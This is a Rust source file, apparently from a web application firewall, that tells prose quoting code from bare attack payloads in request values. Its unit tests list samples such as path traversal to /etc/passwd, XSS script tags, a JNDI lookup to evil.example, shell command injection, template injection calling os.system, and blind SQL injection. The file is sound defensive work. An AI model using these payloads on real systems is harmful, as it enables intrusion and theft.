//! Is a value prose? Whoever writes about code quotes it, and a rule that finds code anywhere in a
//! value cannot tell a quotation from an attack. What surrounds it can: sentences are made of
//! plain words, one after the other, and attacks hardly ever are.
//!
//! This says nothing of what a sentence means, and nothing of languages: a word is a token of
//! letters, whatever the letters are. Whoever wraps an attack in a sentence on purpose is not told
//! apart: what is found in prose is no proof, but evidence still.

use crate::rule::Rule;
use crate::variable::Variable;

/// The tags of rules that find things wherever they stand begin so, and end with what people write
/// about there: `prose/page`, `prose/machine`, `prose/data`.
const TAG: &[u8] = b"prose/";

/// So many plain words make a value prose,
const WORDS: usize = 4;
/// if so many stand one after the other.
const WORDS_IN_A_ROW: usize = 3;
/// A token without blanks that has so many bytes beyond ASCII is several words of a script that
/// writes none.
const UNSPACED_BYTES: usize = 18;
/// Beyond this nobody looks for words: a text has them at its beginning.
const LOOKED_AT: usize = 4_096;
/// A listing has so many lines.
const LISTED_LINES: usize = 3;
/// How files of source and configuration begin.
const BEGINNINGS: [&[u8]; 22] = [
    b"#!",
    b"#include",
    b"apiversion:",
    b"class ",
    b"const ",
    b"def ",
    b"export ",
    b"fn ",
    b"from ",
    b"function ",
    b"import ",
    b"let ",
    b"name:",
    b"namespace ",
    b"package ",
    b"public ",
    b"services:",
    b"steps:",
    b"use ",
    b"using ",
    b"var ",
    b"version:",
];

/// Words of query languages: in what may be a query they make no sentence.
const OF_QUERIES: [&[u8]; 28] = [
    b"all",
    b"and",
    b"as",
    b"boolean",
    b"by",
    b"case",
    b"else",
    b"end",
    b"expansion",
    b"from",
    b"group",
    b"having",
    b"in",
    b"is",
    b"language",
    b"like",
    b"limit",
    b"mode",
    b"not",
    b"null",
    b"or",
    b"order",
    b"procedure",
    b"query",
    b"select",
    b"then",
    b"where",
    b"when",
];

/// What the rule may take a quotation for: pages, machines, data. It says so by its tag.
pub(crate) fn subject(rule: &Rule) -> Option<&[u8]> {
    let mut tags = rule.about.tags.iter().filter_map(|tag| tag.fixed());
    tags.find_map(|tag| tag.strip_prefix(TAG))
}

/// Is it what earlier links of a chain found?
pub(crate) const fn is_found_by_rules(variable: Variable) -> bool {
    matches!(variable, Variable::MatchedVar | Variable::MatchedVars)
}

/// Is it a text, of a person to persons, that a variable holds? A document that came raw is none.
pub(crate) fn is_quoted(subject: &[u8], variable: Variable, value: &[u8]) -> bool {
    let is_text = match variable {
        Variable::Args | Variable::ArgsGet | Variable::ArgsPost | Variable::Xml => true,
        Variable::RequestBody => {
            !value.trim_ascii_start().first().is_some_and(|byte| b"<{[".contains(byte))
        }
        _ => false,
    };
    let left_out: &[&[u8]] = if subject == b"data" { &OF_QUERIES } else { &[] };
    is_text && is_prose(value, left_out)
}

/// Are there plain words enough in a row, or is it a file of source?
fn is_prose(value: &[u8], left_out: &[&[u8]]) -> bool {
    let value = value.get(..LOOKED_AT).unwrap_or(value);
    is_listing(value) || has_words(value, left_out)
}

/// What is marked as code stands within a sentence, and so do the marks of lists.
fn has_words(value: &[u8], left_out: &[&[u8]]) -> bool {
    let fences = value.windows(3).filter(|bytes| bytes == b"```").take(2).count();
    let is_marked = value.iter().filter(|byte| **byte == b'`').take(2).count() == 2;
    let enough = if is_marked { WORDS - 1 } else { WORDS };
    let (mut all, mut row, mut longest, mut is_code) = (0, 0, 0, false);
    for token in value.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty()) {
        let marks = token.iter().filter(|byte| **byte == b'`').count();
        let is_left_out = left_out.iter().any(|word| word.eq_ignore_ascii_case(token));
        if marks == 0 && !is_code && !is_left_out && !is_mark(token) {
            let words = words(token);
            all += words;
            row = if words == 0 { 0 } else { row + words };
            longest = longest.max(row);
        }
        is_code ^= marks % 2 == 1;
        if all >= enough && longest >= WORDS_IN_A_ROW {
            return true;
        }
    }
    fences == 2
}

/// Lines and rows of Markdown.
fn is_mark(token: &[u8]) -> bool {
    token.iter().all(|byte| b"#*|-".contains(byte)) && token != b"--" && token != b"||"
}

/// Does it begin as a file of source does, and go on for some lines?
fn is_listing(value: &[u8]) -> bool {
    let first = value.trim_ascii_start();
    let begins = |beginning: &&[u8]| {
        first.get(..beginning.len()).is_some_and(|start| start.eq_ignore_ascii_case(beginning))
    };
    let lines = value.split(|byte| *byte == b'\n').filter(|line| !line.trim_ascii().is_empty());
    BEGINNINGS.iter().any(begins) && lines.take(LISTED_LINES).count() == LISTED_LINES
}

/// How many plain words a token is.
fn words(token: &[u8]) -> usize {
    let is_opening = |byte: &u8| b"([\"'*_".contains(byte);
    let is_closing = |byte: &u8| b")]\"'*_.,:;!?".contains(byte);
    // A word in quotation marks of its own is a string of a program as often as not.
    if token.len() > 1 && token.first() == token.last() && matches!(token, [b'\'' | b'"', ..]) {
        return 0;
    }
    let start = token.iter().take_while(|byte| is_opening(byte)).count();
    let end = token.len() - token.iter().rev().take_while(|byte| is_closing(byte)).count();
    let word = token.get(start..end).unwrap_or_default();
    let beyond_ascii = word.iter().filter(|byte| !byte.is_ascii()).count();
    let is_inside =
        |byte: &u8| byte.is_ascii_alphabetic() || !byte.is_ascii() || b"'-".contains(byte);
    let begins = word.first().is_some_and(|byte| byte.is_ascii_alphabetic() || !byte.is_ascii());
    let is_word = begins && word.iter().all(is_inside);
    match word.len() {
        _ if !is_word => 0,
        _ if beyond_ascii >= UNSPACED_BYTES => WORDS,
        1 => usize::from(matches!(word, b"a" | b"A" | b"I" | b"i")),
        _ => 1,
    }
}

#[cfg(test)]
mod tests {
    use super::{OF_QUERIES, is_prose};

    #[test]
    fn sentences_that_quote_code_are_prose() {
        for text in [
            "Path traversal means that `GET /x?file=../../etc/passwd` leaves the folder.",
            "Cross-site scripting: suppose a guest book shows <script>alert('XSS')</script>",
            "Außerdem läuft `id` jetzt überall ohne Fehler",
            "Почему `whoami` показывает не то имя, что раньше?",
            "这个页面会显示一个警告框吗 <script>alert(1)</script>",
            "With SpEL: `#{systemProperties['x']}`; with EL: `${param.id}`.",
            "```\ncat /etc/passwd; id\n```",
            "import os\nprint(os.popen('ls').read())\neval(x)\nfoo()\n",
            "Traceback (most recent call last):\n  File \"/usr/lib/x.py\", line 3",
        ] {
            assert!(is_prose(text.as_bytes(), &[]), "{text}");
        }
    }

    #[test]
    fn words_of_queries_make_no_sentence_about_data() {
        let attack = b"1' in boolean mode) and not 1=benchmark(5000000,md5(1)) or null like";
        assert!(!is_prose(attack, &OF_QUERIES));
        assert!(is_prose(b"the select committee wants to sleep(5) hours more", &OF_QUERIES));
    }

    #[test]
    fn attacks_and_code_alone_are_not() {
        for text in [
            "",
            "<script>alert(1)</script>",
            "x; cat /etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "<a href=javascript:alert(1)>click me now</a>",
            "| echo hello | sh",
            "{{ config.items() }} {% for x in y %}",
            "a b c d e f g",
            "`id`",
            "import os; os.system('id')",
            "{% import 'os' as os %}{{os.system('id')}}",
            "x; `sleep 5`; echo done",
        ] {
            assert!(!is_prose(text.as_bytes(), &[]), "{text}");
        }
    }
}
